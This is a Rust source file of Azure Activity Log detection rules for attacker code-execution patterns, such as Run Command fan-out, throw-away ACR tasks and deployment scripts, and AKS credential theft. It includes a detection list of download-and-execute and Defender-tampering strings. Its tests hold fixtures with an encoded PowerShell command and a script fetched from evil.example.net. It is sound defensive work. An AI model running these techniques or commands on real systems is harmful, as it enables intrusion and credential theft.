//! Execution: code run inside VMs, clusters, containers and scripts through
//! management-plane operations.

use std::collections::{BTreeMap, BTreeSet};

use super::super::events::{
    EXTENSION_WRITES, Ev, Events, Op, by_actor, distinct_burst, human_duration, jtext, logical_ops,
    ok_ops_by_actor, op_in,
};
use super::super::{
    Confidence, Context, Hit, OpFilter, ParamKind, ParamSpec, Params, Rule, RuleMeta, Severity,
};
use super::credential_access::{extension_settings, extension_type};
use super::{Judgement, ephemeral, event_hits, id_through, is_random15, name_after, ops_between};

pub const RUN_COMMAND_OPS: [&str; 4] = [
    "microsoft.compute/virtualmachines/runcommand/action",
    "microsoft.compute/virtualmachines/runcommands/write",
    "microsoft.compute/virtualmachinescalesets/virtualmachines/runcommand/action",
    "microsoft.compute/virtualmachinescalesets/virtualmachines/runcommands/write",
];

/// The machine a run command targets: the VM, or the scale-set instance.
pub fn run_target(e: &Ev) -> String {
    let id = e.resource_id.as_deref().unwrap_or("");
    if e.operation.contains("virtualmachinescalesets") {
        // …/virtualMachineScaleSets/ss/virtualMachines/0[/runCommands/x]
        if let Some(ss) = id_through(id, "virtualmachinescalesets") {
            if let Some(inst) = name_after(id, "virtualmachines") {
                return format!("{ss}/virtualmachines/{inst}");
            }
            return ss;
        }
    }
    id_through(id, "virtualmachines").unwrap_or_else(|| id.to_owned())
}

fn short(id: &str) -> &str {
    id.rsplit('/').next().unwrap_or(id)
}

static RUN_COMMAND_FANOUT: RuleMeta = RuleMeta {
    id: "AH-EXEC-001",
    version: 1,
    title: "Run Command fanned out to many VMs",
    description: "One actor runs commands on several distinct VMs (or scale-set instances) in a short \
        time: MicroBurst Invoke-AzVMBulkCMD loops over every VM it can reach.",
    severity: Severity::High,
    confidence: Confidence::High,
    tactics: &["Execution", "Lateral Movement"],
    techniques: &["T1651"],
    defender_alerts: &[
        "ARM_MicroBurst.AzVMBulkCMD",
        "RM_MicroBurst.AzureRmVMBulkCMD",
    ],
    references: &["https://github.com/NetSPI/MicroBurst/blob/master/Az/Invoke-AzVMBulkCMD.ps1"],
    guidance: "The script text is not in the Activity Log: collect it from each VM (Run Command \
        extension logs under C:\\Packages\\Plugins or /var/lib/waagent) or from Defender for \
        Endpoint, and triage every VM touched.",
    false_positives: "Patch or inventory automation using Run Command across a fleet from a known \
        service principal on a schedule.",
    params: &[
        ParamSpec {
            name: "min_vms",
            kind: ParamKind::Count,
            default: 3,
            doc: "distinct VMs",
        },
        ParamSpec {
            name: "window",
            kind: ParamKind::Duration,
            default: 900,
            doc: "time window",
        },
    ],
};

pub struct RunCommandFanout;

impl Rule for RunCommandFanout {
    fn meta(&self) -> &'static RuleMeta {
        &RUN_COMMAND_FANOUT
    }
    fn candidates(&self) -> OpFilter {
        op_in(&RUN_COMMAND_OPS)
    }
    fn detect(&self, ev: &Events<'_>, _ctx: &Context, p: &Params) -> Vec<Hit> {
        let (n, w) = (p.count("min_vms"), p.window("window"));
        let mut hits = Vec::new();
        for ops in ok_ops_by_actor(ev) {
            for burst in distinct_burst(&ops, |o| run_target(&ev[o.rows[0]]), n, w) {
                let vms: BTreeSet<String> =
                    burst.iter().map(|o| run_target(&ev[o.rows[0]])).collect();
                let (t0, t1) = (burst[0].time, burst[burst.len() - 1].time);
                let mut rows: Vec<usize> =
                    burst.iter().flat_map(|o| o.rows.iter().copied()).collect();
                rows.sort_unstable();
                let names: Vec<&str> = vms.iter().map(|v| short(v)).take(5).collect();
                hits.push(Hit::new(
                    rows,
                    format!(
                        "Run Command on {} distinct VMs in {} ({})",
                        vms.len(),
                        human_duration(t1 - t0),
                        names.join(", ")
                    ),
                ));
            }
        }
        hits
    }
}

static RUN_COMMAND_REPEAT: RuleMeta = RuleMeta {
    id: "AH-EXEC-002",
    version: 1,
    title: "Repeated Run Command on one VM",
    description: "The same actor runs commands on the same VM several times within minutes: \
        PowerZure's upload-then-execute pattern (Invoke-AzureRunProgram, Invoke-AzureRunMSBuild).",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    tactics: &["Execution"],
    techniques: &["T1651"],
    defender_alerts: &["VM_RunCommandSuspiciousUsage"],
    references: &["https://github.com/hausec/PowerZure"],
    guidance: "Collect the Run Command scripts from the VM (extension logs) and look for files \
        dropped between the runs.",
    false_positives: "An administrator retrying a failing script.",
    params: &[
        ParamSpec {
            name: "min_runs",
            kind: ParamKind::Count,
            default: 2,
            doc: "runs on one VM",
        },
        ParamSpec {
            name: "window",
            kind: ParamKind::Duration,
            default: 600,
            doc: "time window",
        },
    ],
};

pub struct RunCommandRepeat;

impl Rule for RunCommandRepeat {
    fn meta(&self) -> &'static RuleMeta {
        &RUN_COMMAND_REPEAT
    }
    fn candidates(&self) -> OpFilter {
        op_in(&RUN_COMMAND_OPS)
    }
    fn detect(&self, ev: &Events<'_>, _ctx: &Context, p: &Params) -> Vec<Hit> {
        let (n, w) = (p.count("min_runs"), p.window("window"));
        let mut hits = Vec::new();
        for idx in by_actor(ev).into_values() {
            let mut per_vm: BTreeMap<String, Vec<Op>> = BTreeMap::new();
            for op in logical_ops(ev, &idx).into_iter().filter(|o| !o.failed) {
                per_vm
                    .entry(run_target(&ev[op.rows[0]]))
                    .or_default()
                    .push(op);
            }
            for (vm, ops) in per_vm {
                for c in super::super::events::clusters(ops, |o| o.time, w) {
                    if c.len() < n {
                        continue;
                    }
                    let mut rows: Vec<usize> =
                        c.iter().flat_map(|o| o.rows.iter().copied()).collect();
                    rows.sort_unstable();
                    hits.push(Hit::new(
                        rows,
                        format!(
                            "{} Run Commands on {} in {}",
                            c.len(),
                            short(&vm),
                            human_duration(c[c.len() - 1].time - c[0].time)
                        ),
                    ));
                }
            }
        }
        hits
    }
}

/// An "ephemeral resource" rule: created (and used) then deleted by one
/// actor within a window; a 15-letter random name raises confidence.
struct EphemeralSpec {
    meta: &'static RuleMeta,
    ops: &'static [&'static str],
    create: &'static str,
    delete: &'static str,
    /// Resource segment whose name is the key (`runcommands`, `tasks`, …).
    segment: &'static str,
    what: &'static str,
}

fn ephemeral_hits(
    s: &EphemeralSpec,
    ev: &Events,
    p: &Params,
    extra: impl Fn(&Ev, i64, i64) -> Vec<usize>,
) -> Vec<Hit> {
    let w = p.window("window");
    let key = |e: &Ev| id_through(e.resource_id.as_deref()?, s.segment);
    ephemeral(
        ev,
        |e| e.operation == s.create,
        |e| e.operation == s.delete,
        key,
        w,
    )
    .into_iter()
    .map(|(c, d, k)| {
        let name = k.rsplit('/').next().unwrap_or("").to_owned();
        let first = &ev[c.rows[0]];
        let between = extra(first, c.time, d.time);
        let mut rows: Vec<usize> = c
            .rows
            .iter()
            .chain(&d.rows)
            .chain(&between)
            .copied()
            .collect();
        rows.sort_unstable();
        rows.dedup();
        let random = ev[c.rows[0]]
            .resource_id
            .as_deref()
            .and_then(|id| name_after(id, s.segment))
            .is_some_and(|n| is_random15(&n));
        let hit = Hit::new(
            rows,
            format!(
                "{} {name:?} created and deleted within {}{}",
                s.what,
                human_duration(d.time - c.time),
                if random {
                    " (15-letter random name)"
                } else {
                    ""
                }
            ),
        );
        if random {
            hit.confidence(Confidence::High)
        } else {
            hit
        }
    })
    .collect()
}

static ARC_RUN_COMMAND: RuleMeta = RuleMeta {
    id: "AH-EXEC-003",
    version: 1,
    title: "Ephemeral run command on an Azure Arc machine",
    description: "A run command is created on an Arc-enabled server and deleted shortly after: \
        MicroBurst Get-AzArcCertificates runs code on on-premises machines this way.",
    severity: Severity::High,
    confidence: Confidence::Medium,
    tactics: &["Execution", "Lateral Movement"],
    techniques: &["T1651"],
    defender_alerts: &[],
    references: &["https://github.com/NetSPI/MicroBurst"],
    guidance: "The machine is on-premises or in another cloud: collect the guest's logs and check \
        for exported managed-identity certificates.",
    false_positives: "Operational scripts that clean up after themselves; they keep stable names.",
    params: &[ParamSpec {
        name: "window",
        kind: ParamKind::Duration,
        default: 1800,
        doc: "create → delete window",
    }],
};

static ARC: EphemeralSpec = EphemeralSpec {
    meta: &ARC_RUN_COMMAND,
    ops: &[
        "microsoft.hybridcompute/machines/runcommands/write",
        "microsoft.hybridcompute/machines/runcommands/delete",
    ],
    create: "microsoft.hybridcompute/machines/runcommands/write",
    delete: "microsoft.hybridcompute/machines/runcommands/delete",
    segment: "runcommands",
    what: "Arc run command",
};

pub struct ArcRunCommand;

impl Rule for ArcRunCommand {
    fn meta(&self) -> &'static RuleMeta {
        ARC.meta
    }
    fn candidates(&self) -> OpFilter {
        op_in(ARC.ops)
    }
    fn detect(&self, ev: &Events<'_>, _ctx: &Context, p: &Params) -> Vec<Hit> {
        ephemeral_hits(&ARC, ev, p, |_, _, _| Vec::new())
    }
}

static ACR_TASK: RuleMeta = RuleMeta {
    id: "AH-EXEC-004",
    version: 1,
    title: "Ephemeral container registry task",
    description: "An ACR task is created, run and deleted within minutes: MicroBurst \
        Invoke-AzACRTokenGenerator uses a throw-away task to get the registry's managed-identity token.",
    severity: Severity::High,
    confidence: Confidence::Medium,
    tactics: &["Execution", "Credential Access"],
    techniques: &["T1651", "T1528"],
    defender_alerts: &[],
    references: &["https://github.com/NetSPI/MicroBurst"],
    guidance: "List what the registry's identity can reach (role assignments) and look for its use \
        from outside Azure after the task ran.",
    false_positives: "CI systems that create temporary tasks; they use pipeline identities.",
    params: &[ParamSpec {
        name: "window",
        kind: ParamKind::Duration,
        default: 900,
        doc: "create → delete window",
    }],
};

static ACR: EphemeralSpec = EphemeralSpec {
    meta: &ACR_TASK,
    ops: &[
        "microsoft.containerregistry/registries/tasks/write",
        "microsoft.containerregistry/registries/tasks/delete",
        "microsoft.containerregistry/registries/schedulerun/action",
        "microsoft.containerregistry/registries/runs/listlogsasurl/action",
    ],
    create: "microsoft.containerregistry/registries/tasks/write",
    delete: "microsoft.containerregistry/registries/tasks/delete",
    segment: "tasks",
    what: "registry task",
};

pub struct AcrTask;

impl Rule for AcrTask {
    fn meta(&self) -> &'static RuleMeta {
        ACR.meta
    }
    fn candidates(&self) -> OpFilter {
        op_in(ACR.ops)
    }
    fn detect(&self, ev: &Events<'_>, _ctx: &Context, p: &Params) -> Vec<Hit> {
        ephemeral_hits(&ACR, ev, p, |first, t0, t1| {
            let reg = first
                .resource_id
                .as_deref()
                .and_then(|id| id_through(id, "registries"))
                .unwrap_or_default();
            ops_between(ev, &first.actor, t0, t1, |e| {
                !e.operation.contains("/tasks/")
                    && e.resource_id
                        .as_deref()
                        .is_some_and(|id| id.starts_with(&reg))
            })
        })
    }
}

static DEPLOYMENT_SCRIPT: RuleMeta = RuleMeta {
    id: "AH-EXEC-005",
    version: 1,
    title: "Ephemeral deployment script",
    description: "A deployment script is created and deleted within minutes, typically with a \
        user-assigned managed identity attached: MicroBurst Invoke-AzUADeploymentScript runs code as \
        any identity the actor can assign.",
    severity: Severity::High,
    confidence: Confidence::Medium,
    tactics: &["Execution", "Privilege Escalation"],
    techniques: &["T1651", "T1078.004"],
    defender_alerts: &[],
    references: &["https://github.com/NetSPI/MicroBurst"],
    guidance: "Find the identity assigned (userAssignedIdentities/assign/action) and review what it \
        can do and did after the script ran.",
    false_positives: "Bicep/ARM deployments use deployment scripts routinely; they keep them for \
        their retention interval instead of deleting them at once.",
    params: &[ParamSpec {
        name: "window",
        kind: ParamKind::Duration,
        default: 1800,
        doc: "create → delete window",
    }],
};

static DSCRIPT: EphemeralSpec = EphemeralSpec {
    meta: &DEPLOYMENT_SCRIPT,
    ops: &[
        "microsoft.resources/deploymentscripts/write",
        "microsoft.resources/deploymentscripts/delete",
        "microsoft.managedidentity/userassignedidentities/assign/action",
    ],
    create: "microsoft.resources/deploymentscripts/write",
    delete: "microsoft.resources/deploymentscripts/delete",
    segment: "deploymentscripts",
    what: "deployment script",
};

pub struct DeploymentScript;

impl Rule for DeploymentScript {
    fn meta(&self) -> &'static RuleMeta {
        DSCRIPT.meta
    }
    fn candidates(&self) -> OpFilter {
        op_in(DSCRIPT.ops)
    }
    fn detect(&self, ev: &Events<'_>, _ctx: &Context, p: &Params) -> Vec<Hit> {
        ephemeral_hits(&DSCRIPT, ev, p, |first, t0, t1| {
            ops_between(ev, &first.actor, t0 - 300_000_000, t1, |e| {
                e.operation.ends_with("/assign/action")
            })
        })
        .into_iter()
        .map(|h| {
            if h.rows
                .iter()
                .any(|&i| ev[i].operation.ends_with("/assign/action"))
            {
                let why = format!("{} with a user-assigned identity attached", h.why);
                Hit { why, ..h }.severity(Severity::Critical)
            } else {
                h
            }
        })
        .collect()
    }
}

static AKS_NODE: RuleMeta = RuleMeta {
    id: "AH-EXEC-006",
    version: 1,
    title: "AKS admin credentials taken, then a node run command",
    description: "An actor lists an AKS cluster's admin credentials and then runs a command on a node \
        of a scale set in a node resource group (MC_*): Get-AzPasswords -AKS pulls secrets off the \
        nodes this way.",
    severity: Severity::High,
    confidence: Confidence::High,
    tactics: &["Credential Access", "Execution"],
    techniques: &["T1552.007", "T1651"],
    defender_alerts: &[],
    references: &["https://github.com/NetSPI/MicroBurst/blob/master/Az/Get-AzPasswords.ps1"],
    guidance: "Rotate the cluster's admin credentials and service-principal secret; review the \
        Kubernetes audit log for the admin kubeconfig's use.",
    false_positives: "Cluster troubleshooting by an administrator (rare to combine both steps).",
    params: &[ParamSpec {
        name: "window",
        kind: ParamKind::Duration,
        default: 900,
        doc: "credential → run command window",
    }],
};

pub struct AksNodeRunCommand;

impl Rule for AksNodeRunCommand {
    fn meta(&self) -> &'static RuleMeta {
        &AKS_NODE
    }
    fn candidates(&self) -> OpFilter {
        op_in(&[
            "microsoft.containerservice/managedclusters/listclusteradmincredential/action",
            "microsoft.compute/virtualmachinescalesets/virtualmachines/runcommand/action",
            "microsoft.compute/virtualmachinescalesets/virtualmachines/runcommands/write",
        ])
    }
    fn detect(&self, ev: &Events<'_>, _ctx: &Context, p: &Params) -> Vec<Hit> {
        let w = p.window("window");
        let mut hits = Vec::new();
        for ops in ok_ops_by_actor(ev) {
            let mut i = 0;
            while i < ops.len() {
                let e = &ev[ops[i].rows[0]];
                if !e.operation.ends_with("listclusteradmincredential/action") {
                    i += 1;
                    continue;
                }
                let runs: Vec<&Op> = ops[i + 1..]
                    .iter()
                    .take_while(|o| o.time - ops[i].time <= w)
                    .filter(|o| {
                        let r = &ev[o.rows[0]];
                        r.operation.contains("virtualmachinescalesets")
                            && r.resource_group
                                .as_deref()
                                .is_some_and(|g| g.starts_with("mc_"))
                    })
                    .collect();
                if let Some(last) = runs.last() {
                    let mut rows: Vec<usize> = ops[i]
                        .rows
                        .iter()
                        .copied()
                        .chain(runs.iter().flat_map(|o| o.rows.iter().copied()))
                        .collect();
                    rows.sort_unstable();
                    hits.push(Hit::new(
                        rows,
                        format!(
                            "admin credentials of cluster {} listed, then {} node run command(s) within {}",
                            e.resource_name.as_deref().unwrap_or_default().to_owned(),
                            runs.len(),
                            human_duration(last.time - ops[i].time)
                        ),
                    ));
                }
                i += 1;
            }
        }
        hits
    }
}

/// Patterns of encoded or download-and-execute commands.
const SUSPICIOUS_COMMAND: [&str; 22] = [
    "-enc ",
    "-encodedcommand",
    "-e jab",
    "frombase64string",
    "iex ",
    "iex(",
    "invoke-expression",
    "downloadstring",
    "downloadfile",
    "invoke-webrequest",
    "start-bitstransfer",
    "| iex",
    "|iex",
    "curl ",
    "wget ",
    "| sh",
    "| bash",
    "certutil -urlcache",
    "bitsadmin",
    "set-mppreference -disable",
    "add-mppreference -exclusion",
    "xmrig",
];

/// Hosts of Azure and Microsoft services a script legitimately comes from.
fn trusted_host(host: &str) -> bool {
    [
        ".blob.core.windows.net",
        ".file.core.windows.net",
        ".azureedge.net",
        ".microsoft.com",
        ".azure.com",
        ".windows.net",
    ]
    .iter()
    .any(|s| host.ends_with(s))
}

/// URLs in a text whose host is outside Azure / Microsoft.
fn external_urls(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for (i, _) in text.match_indices("http") {
        let rest = &text[i..];
        let Some(after) = rest
            .strip_prefix("https://")
            .or_else(|| rest.strip_prefix("http://"))
        else {
            continue;
        };
        let host: String = after
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '.' || *c == '-')
            .collect();
        if !host.is_empty() && !trusted_host(&host.to_ascii_lowercase()) {
            out.push(host.to_ascii_lowercase());
        }
    }
    out.sort();
    out.dedup();
    out
}

static SUSPICIOUS_EXTENSION: RuleMeta = RuleMeta {
    id: "AH-EXEC-007",
    version: 1,
    title: "Custom Script or DSC extension with a suspicious command or source",
    description: "A Custom Script or DSC extension is written whose public settings carry an encoded \
        PowerShell command, a download-and-execute command line, Defender tampering, a miner, or a \
        script URL outside Azure / Microsoft (MicroBurst Invoke-DscVmExtension, common intrusion \
        tooling). Settings placed in protectedSettings are masked in the log and cannot be judged.",
    severity: Severity::High,
    confidence: Confidence::Medium,
    tactics: &["Execution"],
    techniques: &["T1059.001", "T1105"],
    defender_alerts: &[
        "VM_CustomScriptExtensionSuspiciousCmd",
        "VM_CustomScriptExtensionSuspiciousEntryPoint",
        "VM_DSCExtensionSuspiciousScript",
    ],
    references: &[
        "https://learn.microsoft.com/azure/defender-for-cloud/alerts-azure-vm-extensions",
    ],
    guidance: "Fetch the referenced script if it is still online (from an isolated host), and \
        inspect the VM for its effects: new users, services, scheduled tasks, outbound connections.",
    false_positives: "Bootstrap scripts pulled from a vendor's site; they come from deployment \
        pipelines and do not encode their command.",
    params: &[ParamSpec {
        name: "window",
        kind: ParamKind::Duration,
        default: 3600,
        doc: "grouping window",
    }],
};

pub struct SuspiciousExtension;

impl Rule for SuspiciousExtension {
    fn meta(&self) -> &'static RuleMeta {
        &SUSPICIOUS_EXTENSION
    }
    fn candidates(&self) -> OpFilter {
        op_in(&EXTENSION_WRITES)
    }
    fn detect(&self, ev: &Events<'_>, _ctx: &Context, p: &Params) -> Vec<Hit> {
        event_hits(ev, p.window("window"), true, |e| {
            let t = extension_type(e);
            let kind = if t.contains("customscript") {
                "Custom Script"
            } else if t == "dsc" || t.contains("dsc") {
                "DSC"
            } else {
                return None;
            };
            let settings = extension_settings(e)?;
            let text = settings.to_string();
            let lower = jtext(&settings).to_ascii_lowercase();
            let target = id_through(e.resource_id.as_deref().unwrap_or(""), "virtualmachines")
                .or_else(|| id_through(e.resource_id.as_deref().unwrap_or(""), "machines"))
                .unwrap_or_default();
            if let Some(pat) = SUSPICIOUS_COMMAND.iter().find(|p| lower.contains(*p)) {
                return Some(
                    Judgement::new(format!(
                        "{kind} extension on {} with {:?} in its command",
                        short(&target),
                        pat.trim()
                    ))
                    .confidence(Confidence::High),
                );
            }
            let urls = external_urls(&text);
            if !urls.is_empty() {
                return Some(
                    Judgement::new(format!(
                        "{kind} extension on {} fetching from {}",
                        short(&target),
                        urls.join(", ")
                    ))
                    .severity(Severity::Medium),
                );
            }
            None
        })
    }
}

#[cfg(test)]
mod tests {
    use super::super::super::events::testing::*;
    use super::*;

    const RC: &str = "Microsoft.Compute/virtualMachines/runCommand/action";
    fn vm(n: usize) -> String {
        format!(
            "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm{n}"
        )
    }

    #[test]
    fn fanout() {
        let v: Vec<Ev> = (0..3)
            .map(|n| ev(&format!("2024-05-01T10:0{n}:00Z"), "m", RC, &vm(n)))
            .collect();
        let h = run(&RunCommandFanout, v);
        assert_eq!(h.len(), 1);
        assert!(
            h[0].why
                .starts_with("Run Command on 3 distinct VMs in 2m00s"),
            "{}",
            h[0].why
        );
        // Near miss: two VMs.
        let v: Vec<Ev> = (0..2)
            .map(|n| ev(&format!("2024-05-01T10:0{n}:00Z"), "m", RC, &vm(n)))
            .collect();
        assert!(run(&RunCommandFanout, v).is_empty());
        // Near miss: three VMs by three different actors.
        let v: Vec<Ev> = (0..3)
            .map(|n| {
                ev(
                    &format!("2024-05-01T10:0{n}:00Z"),
                    &format!("u{n}"),
                    RC,
                    &vm(n),
                )
            })
            .collect();
        assert!(run(&RunCommandFanout, v).is_empty());
    }

    #[test]
    fn repeat_on_one_vm() {
        let v = vec![
            ev("2024-05-01T10:00:00Z", "m", RC, &vm(1)),
            ev("2024-05-01T10:03:00Z", "m", RC, &vm(1)),
        ];
        let h = run(&RunCommandRepeat, v);
        assert_eq!(h.len(), 1);
        assert_eq!(h[0].why, "2 Run Commands on vm1 in 3m00s");
        // Near miss: 40 minutes apart; and a single run with its Started/Succeeded records.
        let v = vec![
            ev("2024-05-01T10:00:00Z", "m", RC, &vm(1)),
            ev("2024-05-01T10:40:00Z", "m", RC, &vm(1)),
        ];
        assert!(run(&RunCommandRepeat, v).is_empty());
        let v = vec![
            ev("2024-05-01T10:00:00Z", "m", RC, &vm(1))
                .corr("c")
                .status("started"),
            ev("2024-05-01T10:00:30Z", "m", RC, &vm(1))
                .corr("c")
                .status("succeeded"),
        ];
        assert!(run(&RunCommandRepeat, v).is_empty());
    }

    #[test]
    fn arc_ephemeral() {
        let id = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.HybridCompute/machines/srv1/runCommands/QwErTyUiOpAsDfG";
        let v = vec![
            ev(
                "2024-05-01T10:00:00Z",
                "m",
                "Microsoft.HybridCompute/machines/runCommands/write",
                id,
            ),
            ev(
                "2024-05-01T10:05:00Z",
                "m",
                "Microsoft.HybridCompute/machines/runCommands/delete",
                id,
            ),
        ];
        let h = run(&ArcRunCommand, v);
        assert_eq!(h.len(), 1);
        assert!(h[0].why.contains("(15-letter random name)"), "{}", h[0].why);
        assert_eq!(h[0].confidence, Some(Confidence::High));
        // Near miss: kept.
        let v = vec![ev(
            "2024-05-01T10:00:00Z",
            "m",
            "Microsoft.HybridCompute/machines/runCommands/write",
            id,
        )];
        assert!(run(&ArcRunCommand, v).is_empty());
    }

    #[test]
    fn acr_ephemeral() {
        let reg = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.ContainerRegistry/registries/reg1";
        let task = format!("{reg}/tasks/AbCdEfGhIjKlMnO");
        let v = vec![
            ev(
                "2024-05-01T10:00:00Z",
                "m",
                "Microsoft.ContainerRegistry/registries/tasks/write",
                &task,
            ),
            ev(
                "2024-05-01T10:01:00Z",
                "m",
                "Microsoft.ContainerRegistry/registries/scheduleRun/action",
                reg,
            ),
            ev(
                "2024-05-01T10:03:00Z",
                "m",
                "Microsoft.ContainerRegistry/registries/tasks/delete",
                &task,
            ),
        ];
        let h = run(&AcrTask, v);
        assert_eq!(h.len(), 1);
        assert_eq!(h[0].rows.len(), 3);
        // Near miss: deleted a day later.
        let v = vec![
            ev(
                "2024-05-01T10:00:00Z",
                "m",
                "Microsoft.ContainerRegistry/registries/tasks/write",
                &task,
            ),
            ev(
                "2024-05-02T10:00:00Z",
                "m",
                "Microsoft.ContainerRegistry/registries/tasks/delete",
                &task,
            ),
        ];
        assert!(run(&AcrTask, v).is_empty());
    }

    #[test]
    fn deployment_script_ephemeral() {
        let ds = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Resources/deploymentScripts/AbCdEfGhIjKlMnO";
        let mi = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.ManagedIdentity/userAssignedIdentities/admin-mi";
        let v = vec![
            ev(
                "2024-05-01T10:00:00Z",
                "m",
                "Microsoft.ManagedIdentity/userAssignedIdentities/assign/action",
                mi,
            ),
            ev(
                "2024-05-01T10:00:05Z",
                "m",
                "Microsoft.Resources/deploymentScripts/write",
                ds,
            ),
            ev(
                "2024-05-01T10:06:00Z",
                "m",
                "Microsoft.Resources/deploymentScripts/delete",
                ds,
            ),
        ];
        let h = run(&DeploymentScript, v);
        assert_eq!(h.len(), 1);
        assert_eq!(h[0].severity, Some(Severity::Critical));
        assert!(h[0].why.contains("user-assigned identity"), "{}", h[0].why);
        let v = vec![ev(
            "2024-05-01T10:00:05Z",
            "m",
            "Microsoft.Resources/deploymentScripts/write",
            ds,
        )];
        assert!(run(&DeploymentScript, v).is_empty());
    }

    #[test]
    fn aks_node_theft() {
        let aks = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.ContainerService/managedClusters/aks1";
        let node = "/subscriptions/s1/resourceGroups/MC_rg_aks1_westeurope/providers/Microsoft.Compute/virtualMachineScaleSets/aks-pool-1/virtualMachines/0";
        let v = vec![
            ev(
                "2024-05-01T10:00:00Z",
                "m",
                "Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action",
                aks,
            ),
            ev(
                "2024-05-01T10:04:00Z",
                "m",
                "Microsoft.Compute/virtualMachineScaleSets/virtualMachines/runCommand/action",
                node,
            ),
        ];
        let h = run(&AksNodeRunCommand, v);
        assert_eq!(h.len(), 1);
        assert!(h[0].why.contains("cluster aks1"), "{}", h[0].why);
        // Near miss: credentials only.
        let v = vec![ev(
            "2024-05-01T10:00:00Z",
            "m",
            "Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action",
            aks,
        )];
        assert!(run(&AksNodeRunCommand, v).is_empty());
    }

    #[test]
    fn suspicious_extensions() {
        let id = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1/extensions/cse";
        let op = "Microsoft.Compute/virtualMachines/extensions/write";
        let e = ev("2024-05-01T10:00:00Z", "m", op, id).request(
            r#"{"properties":{"publisher":"Microsoft.Compute","type":"CustomScriptExtension","settings":{"commandToExecute":"powershell -enc SQBFAFgA"}}}"#,
        );
        let h = run(&SuspiciousExtension, vec![e]);
        assert_eq!(h.len(), 1);
        assert!(h[0].why.contains("\"-enc\""), "{}", h[0].why);
        let e = ev("2024-05-01T10:00:00Z", "m", op, id).request(
            r#"{"properties":{"type":"CustomScript","settings":{"fileUris":["https://evil.example.net/x.sh"],"commandToExecute":"sh x.sh"}}}"#,
        );
        let h = run(&SuspiciousExtension, vec![e]);
        assert_eq!(h.len(), 1);
        assert!(h[0].why.contains("evil.example.net"), "{}", h[0].why);
        // Near miss: a script from the tenant's own storage account.
        let e = ev("2024-05-01T10:00:00Z", "m", op, id).request(
            r#"{"properties":{"type":"CustomScriptExtension","settings":{"fileUris":["https://corpscripts.blob.core.windows.net/s/setup.ps1"],"commandToExecute":"powershell -File setup.ps1"}}}"#,
        );
        assert!(run(&SuspiciousExtension, vec![e]).is_empty());
    }
}
